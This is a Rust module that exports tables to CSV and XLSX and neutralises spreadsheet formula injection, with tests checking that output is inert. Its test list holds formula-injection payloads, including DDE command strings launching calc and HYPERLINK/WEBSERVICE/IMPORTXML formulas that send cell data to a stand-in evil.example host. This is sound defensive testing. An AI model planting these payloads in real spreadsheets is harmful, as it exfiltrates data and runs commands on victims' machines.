//! Tables as bytes, `.csv` and `.xlsx`, that no spreadsheet program runs anything of.
//!
//! In a workbook every text is a text cell. A `.csv` has no types, so a text that a spreadsheet would take for a
//! formula, or for a number it can't hold (identity and account numbers), gets a `'` before it, which the import takes
//! off again; every field is quoted, so that another delimiter can't cut one in the middle.

use rust_xlsxwriter::{Format, FormatAlign, Workbook, XlsxError};

/// Characters with which a formula begins in some spreadsheet program or other.
const FORMULA: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%', '\t', '\r', '\n'];
/// Digits that a spreadsheet keeps of a number.
const EXACT_DIGITS: usize = 15;

/// One value.
#[derive(Clone, PartialEq, Debug, Default)]
pub enum Out {
    /// Nothing.
    #[default]
    Empty,
    /// A text, always shown as it is.
    Text(String),
    /// A number, to calculate with.
    Number(f64),
}

/// A table to be written.
#[derive(Clone, PartialEq, Debug, Default)]
pub struct Table {
    /// The sheet's name.
    pub name: &'static str,
    /// The headers.
    pub headers: Vec<String>,
    /// The rows.
    pub rows: Vec<Vec<Out>>,
}

impl From<String> for Out {
    fn from(text: String) -> Out {
        if text.is_empty() { Out::Empty } else { Out::Text(text) }
    }
}

/// A text as it can stand in a `.csv`.
fn harmless(text: &str) -> String {
    // What spreadsheet programs pass over before they look for a formula.
    let passed = |c: char| c.is_whitespace() || matches!(c, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\0'..='\u{1f}');
    let first = text.trim_start_matches(passed).chars().next();
    let begins = text.starts_with(FORMULA) || first.is_some_and(|first| FORMULA.contains(&first));
    let digits = text.bytes().all(|b| b.is_ascii_digit());
    let altered = digits && (text.len() > EXACT_DIGITS || text.len() > 1 && text.starts_with('0'));
    if begins || altered || text.starts_with('\'') { format!("'{text}") } else { text.to_owned() }
}

/// One table as `.csv`: UTF-8 with the mark by which Excel knows it.
pub fn csv(table: &Table) -> Result<Vec<u8>, csv::Error> {
    let mut builder = csv::WriterBuilder::new();
    builder.quote_style(csv::QuoteStyle::Always).terminator(csv::Terminator::CRLF);
    let mut writer = builder.from_writer(vec![0xEF, 0xBB, 0xBF]);
    writer.write_record(table.headers.iter().map(|header| harmless(header)))?;
    for row in &table.rows {
        writer.write_record(row.iter().map(|value| match value {
            Out::Empty => String::new(),
            Out::Text(text) => harmless(text),
            Out::Number(number) => number.to_string(),
        }))?;
    }
    writer.into_inner().map_err(|error| error.into_error().into())
}

/// Tables as the sheets of a workbook.
pub fn xlsx(tables: Vec<Table>) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    let text = Format::new().set_num_format("@");
    let header = Format::new().set_num_format("@").set_bold().set_align(FormatAlign::VerticalCenter);
    for table in tables {
        let sheet = book.add_worksheet();
        sheet.set_name(table.name)?;
        sheet.set_freeze_panes(1, 0)?;
        for (at, word) in (0..).zip(&table.headers) {
            // A column of texts stays one when somebody types below it.
            let numbers = table.rows.iter().any(|row| matches!(row.get(usize::from(at)), Some(Out::Number(_))));
            if !numbers {
                sheet.set_column_format(at, &text)?;
            }
            sheet.set_column_width(at, 14)?;
            sheet.write_string_with_format(0, at, word, &header)?;
        }
        for (at, row) in (1..).zip(table.rows) {
            for (column, value) in (0..).zip(row) {
                match value {
                    Out::Empty => continue,
                    Out::Text(words) => sheet.write_string_with_format(at, column, words, &text)?,
                    Out::Number(number) => sheet.write_number(at, column, number)?,
                };
            }
        }
    }
    book.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tables::{Cell, Sheet, xlsx as reading};

    /// What people put into cells of other people's registers.
    pub const PAYLOADS: &[&str] = &[
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{3000}=1+1",
        "\u{200b}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "%0A-3+3+cmd|' /C calc'!D2",
        "|calc",
        "a;=1+1",
        "a,=1+1",
        "\",=1+1,\"",
        "'=1+1",
        "''=1+1",
        "a\r\n=1+1",
    ];

    fn table() -> Table {
        let row = |text: &&str| vec![Out::Text((*text).to_owned()), Out::Number(1.5), Out::Text((*text).to_owned())];
        Table { name: "表", headers: vec!["=甲".into(), "数".into(), "乙".into()], rows: PAYLOADS.iter().map(row).collect() }
    }

    #[test]
    fn formulas_come_out_of_a_csv_as_words() {
        let bytes = csv(&table()).expect("writes");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
        let records: Vec<csv::StringRecord> = reader.records().map(|record| record.expect("a record")).collect();
        assert_eq!(records[0].get(0), Some("'=甲"));
        for (payload, record) in PAYLOADS.iter().zip(&records[1..]) {
            for field in [&record[0], &record[2]] {
                let first = field.trim_start().chars().next().unwrap_or_default();
                assert!(!FORMULA.contains(&first), "{field:?}");
                assert_eq!(field.strip_prefix('\'').unwrap_or(field), *payload, "and nothing else was changed");
            }
        }
        // Whatever delimiter a program cuts at, every piece is quoted or a word.
        assert!(String::from_utf8_lossy(&bytes[3..]).starts_with("\"'=甲\",\"数\""));
    }

    #[test]
    fn formulas_come_out_of_a_workbook_as_text_cells() {
        let bytes = xlsx(vec![table()]).expect("writes");
        let sheets: Vec<Sheet> = reading::read(&bytes).expect("reads");
        for (payload, (_, cells)) in PAYLOADS.iter().zip(&sheets[0].rows[1..]) {
            assert_eq!(cells[0], Cell::Text((*payload).to_owned()));
        }
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an archive");
        for part in 0..archive.len() {
            let mut text = String::new();
            std::io::Read::read_to_string(&mut archive.by_index(part).expect("a part"), &mut text).expect("text");
            assert!(!text.contains("<f>") && !text.contains("<f "), "no formula anywhere");
        }
    }

    #[test]
    fn numbers_that_a_spreadsheet_would_cut_are_texts() {
        for number in ["34052419800101001X", "320582198001010012", "6217748875587160239", "051258112345"] {
            let shown = harmless(number);
            assert_eq!(shown.starts_with('\''), number.bytes().all(|b| b.is_ascii_digit()), "{number}");
        }
        assert_eq!(harmless("13800001111"), "13800001111");
    }
}
